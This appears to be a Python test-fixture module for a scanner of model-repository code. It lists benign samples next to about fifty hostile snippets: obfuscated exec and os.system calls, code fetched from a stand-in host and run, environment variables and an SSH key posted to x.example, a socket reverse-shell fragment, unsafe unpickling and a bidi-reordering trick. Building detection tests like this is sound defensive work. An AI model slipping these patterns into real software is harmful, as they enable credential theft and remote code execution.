"""Python source as a model might bring it: text that is read and never imported, compiled or run.

The hostile ones are written down in pieces, so that no file of this repository holds a payload in one piece.
"""

import base64
import dataclasses
import json

RUN = "ex" + "ec"
SYSTEM = "os.sys" + "tem"
PACKED = base64.b64encode(b"print('a payload would be here')").decode()


@dataclasses.dataclass(frozen=True, slots=True)
class Hostile:
    """Source with the kind of sign that it must give, and whether it is an attack by itself."""

    name: str
    text: str
    kind: str
    is_attack: bool = False


MODEL = '''
"""A small model."""
import math
from dataclasses import dataclass
from typing import Optional

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel
from transformers.modeling_outputs import CausalLMOutputWithPast

from .configuration_small import SmallConfig

logger = __import__("logging").getLogger(__name__)


class Attention(nn.Module):
    def __init__(self, config: SmallConfig):
        super().__init__()
        self.heads = config.num_attention_heads
        for name in ("q", "k", "v"):
            setattr(self, f"{name}_proj", nn.Linear(config.hidden_size, config.hidden_size, bias=False))

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        q, k, v = (getattr(self, f"{name}_proj")(x) for name in ("q", "k", "v"))
        weights = F.softmax(q @ k.transpose(-1, -2) / math.sqrt(q.shape[-1]), dim=-1)
        return weights @ v


class SmallForCausalLM(PreTrainedModel):
    config_class = SmallConfig

    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([Attention(config) for _ in range(config.num_hidden_layers)])
        self.eval()
        self.compiled = torch.compile(self.layers[0]) if config.fast else None

    def _init_weights(self, module):
        std = getattr(self.config, "initializer_range", 0.02)
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=std)
'''

GOOD = {
    "a model": MODEL,
    "a configuration": "from transformers import PretrainedConfig\n\n\nclass C(PretrainedConfig):\n    model_type = 'small'\n",
    "a tokenizer": (
        "import json, os, re\nimport regex\nimport sentencepiece as spm\n\nPATTERN = re.compile(r'\\w+')\n\n\nclass T:\n"
        "    def __init__(self, vocab_file):\n        self.sp = spm.SentencePieceProcessor()\n        self.sp.Load(vocab_file)\n\n"
        "    def __getstate__(self):\n        return self.__dict__.copy()\n\n    def save_vocabulary(self, folder):\n"
        "        path = os.path.join(folder, 'vocab.json')\n        with open(path, 'w', encoding='utf-8') as f:\n            json.dump({}, f)\n"
    ),
    "a check whether a package is there": (
        "import importlib.util\nimport warnings\n\nif importlib.util.find_spec('flash_attn') is not None:\n    from flash_attn import flash_attn_func\n"
        "else:\n    warnings.warn('slow')\n"
    ),
    "safe loading": "import torch\n\n\ndef load(path):\n    return torch.load(path, map_location='cpu', weights_only=True)\n",
    "names that only sound bad": "class A:\n    def exec(self): ...\n    def system(self): ...\n\na = A()\na.exec()\na.system()\nmodel.eval()\n",
    "nothing": "",
}

HOSTILE = [
    Hostile("a program at import", f"import os\n{SYSTEM}('id')\n", "process", is_attack=True),
    Hostile("a program later", f"def f():\n    import os as o\n    o.{SYSTEM[3:]}('id')\n", "process"),
    Hostile("a program in a class body", "class A:\n    import subprocess\n    subprocess.run(['id'])\n", "process", is_attack=True),
    Hostile("a program in a function that is called", "import subprocess\ndef go():\n    subprocess.Popen(['id'])\ngo()\n", "process", is_attack=True),
    Hostile("a program in a class that is made", "from subprocess import Popen as P\nclass M:\n    def __init__(self):\n        P('id')\nM()\n", "process", is_attack=True),
    Hostile("a program in a default", f"import os\ndef f(x={SYSTEM}('id')): ...\n", "process", is_attack=True),
    Hostile("a program in a decorator", "import os\n@os.popen\ndef f(): ...\n", "process"),
    Hostile("a program when run by hand", f"if __name__ == '__main__':\n    import os\n    {SYSTEM}('id')\n", "process"),
    Hostile("all names of a module", f"from os import *\n{SYSTEM[3:]}('id')\n", "process", is_attack=True),
    Hostile("by another module", f"import torch\ntorch.serialization.{SYSTEM}('id')\n", "process", is_attack=True),
    Hostile("by the list of modules", f"import sys\nsys.modules['os'].{SYSTEM[3:]}('id')\n", "process", is_attack=True),
    Hostile("by importing in an expression", f"__import__('os').{SYSTEM[3:]}('id')\n", "process", is_attack=True),
    Hostile("by importing in pieces", f"__import__('o' + 's').{SYSTEM[3:]}('id')\n", "built-name", is_attack=True),
    Hostile("by joining", "import importlib\nimportlib.import_module(''.join(['o', 's'])).popen('id')\n", "built-name", is_attack=True),
    Hostile("by characters", "import os\ngetattr(os, chr(115) + 'ystem')('id')\n", "built-name", is_attack=True),
    Hostile("backwards", "import os\ngetattr(os, 'metsys'[::-1])('id')\n", "built-name", is_attack=True),
    Hostile("by a name made up later", "import os\ndef f(n):\n    return getattr(os, n)('id')\n", "built-name"),
    Hostile("a module made up later", "import importlib\ndef f(n):\n    return importlib.import_module(n)\n", "built-name"),
    Hostile("by another name", "f = eval\nf(input())\n", "run", is_attack=True),
    Hostile("decoded", f"import base64\n{RUN}(base64.b64decode('{PACKED}'))\n", "run", is_attack=True),
    Hostile("decoded before", f"import base64 as b, zlib\nx = b.b64decode('{PACKED}')\ny = zlib.decompress(x)\n"
            f"class A:\n    def f(self):\n        {RUN}(y)\n", "run", is_attack=True),
    Hostile("decoded by a function", f"def d(s):\n    return bytes.fromhex(s)\ndef f():\n    {RUN}(d('00'))\n", "run", is_attack=True),
    Hostile("rotated", f"import codecs\ndef f():\n    {RUN}(codecs.decode('vzcbeg bf', 'rot13'))\n", "run", is_attack=True),
    Hostile("marshalled", f"import marshal\ndef f(b):\n    {RUN}(marshal.loads(b))\n", "run", is_attack=True),
    Hostile("fetched", f"import requests\ndef f():\n    r = requests.get('http://x.example')\n    {RUN}(r.text)\n", "run", is_attack=True),
    Hostile("written out", f"def f():\n    {RUN}('import os; {SYSTEM}(1)')\n", "process", is_attack=True),
    Hostile("by the built-in module", "vars(__builtins__)['e' + 'val']('1')\n", "run"),
    Hostile("by the names of the file", "globals()['__builtins__']['eval'](x)\n", "run", is_attack=True),
    Hostile("a file as a module", "import importlib.util as u\ndef f(p):\n    return u.spec_from_file_location('m', p)\n", "run"),
    Hostile("unpickling", "import pickle\ndef f(b):\n    return pickle.loads(b)\n", "unpickle"),
    Hostile("careless tensors", "import torch\ndef f(p):\n    return torch.load(p)\n", "unpickle"),
    Hostile("tensors, said to be careless", "import torch\ndef f(p):\n    return torch.load(p, weights_only=False)\n", "unpickle"),
    Hostile("careless arrays", "import numpy as np\ndef f(p):\n    return np.load(p, allow_pickle=True)\n", "unpickle"),
    Hostile("careless YAML", "import yaml\ndef f(p):\n    return yaml.load(p, Loader=yaml.Loader)\n", "unpickle"),
    Hostile("network at import", "import urllib.request\nurllib.request.urlopen('http://x.example')\n", "network", is_attack=True),
    Hostile("network later", "import socket\ndef f():\n    return socket.create_connection(('x.example', 1))\n", "network"),
    Hostile("the environment sent away", "import os, requests\ndef f():\n    requests.post('http://x.example', json=dict(os.environ))\n", "network", is_attack=True),
    Hostile("a key sent away", "import requests\ndef f():\n    k = open('/root/.ssh/id_rsa').read()\n    requests.post('http://x.example', data=k)\n", "network", is_attack=True),
    Hostile("a key read", "def f():\n    return open('/root/.aws/credentials').read()\n", "secret"),
    Hostile("remote control", "import os, socket\ndef f():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)\n", "remote-control", is_attack=True),
    Hostile("native code", "import ctypes\ndef f():\n    return ctypes.CDLL('x.so')\n", "native"),
    Hostile("compiled at load", "from torch.utils.cpp_extension import load\ndef f():\n    return load(name='x', sources=['x.cu'])\n", "native"),
    Hostile("internals", "x = ().__class__.__base__.__subclasses__()\n", "internals"),
    Hostile("tracing", "import sys\ndef f(g):\n    sys.settrace(g)\n", "internals"),
    Hostile("another model's code", "from transformers import AutoModel\ndef f():\n    return AutoModel.from_pretrained('a/b', trust_remote_code=True)\n", "trust"),
    Hostile("packed data", f"DATA = '{'QUJD' * 400}'\n", "packed"),
    Hostile("an object that says how it is loaded", "class A:\n    def __reduce__(self):\n        return print, ()\n", "reduce"),
    Hostile("reordered", "if access != 'user\u202e \u2066# check\u2069 \u2066':\n    pass\n", "unseen", is_attack=True),
]  # fmt: skip

# Not Python, in another encoding than it seems, or too much of it: undecided.
BROKEN = {
    "no Python": b"def f(:\n",
    "another encoding": b"# -*- coding: utf-7 -*-\n+AGU-val(1)\n",
    "escapes as an encoding": b"#!/usr/bin/python\n# coding=unicode_escape\n\\u0061 = 1\n",
    "not UTF-8": b"x = '\xff\xfe'\n",
    "zero bytes": b"x = 1\x00\n",
    "too long": b"x = 1\n" * 100_000,
    "too many parts": b"a;" * 150_000,
    "brackets": b"(" * 5000,
    "minuses": b"x = " + b"-" * 50_000 + b"1",
    "attributes": b"x" + b".a" * 60_000,
    "a number without end": b"x = " + b"9" * 100_000,
    "additions": b"x = 1" + b"+1" * 60_000,
}


def notebook(*cells: str, outputs: list[object] | None = None) -> bytes:
    """A notebook with these code cells."""
    return json.dumps(
        {"cells": [{"cell_type": "code", "source": cell.splitlines(keepends=True), "outputs": outputs or []} for cell in cells], "nbformat": 4}
    ).encode()  # fmt: skip
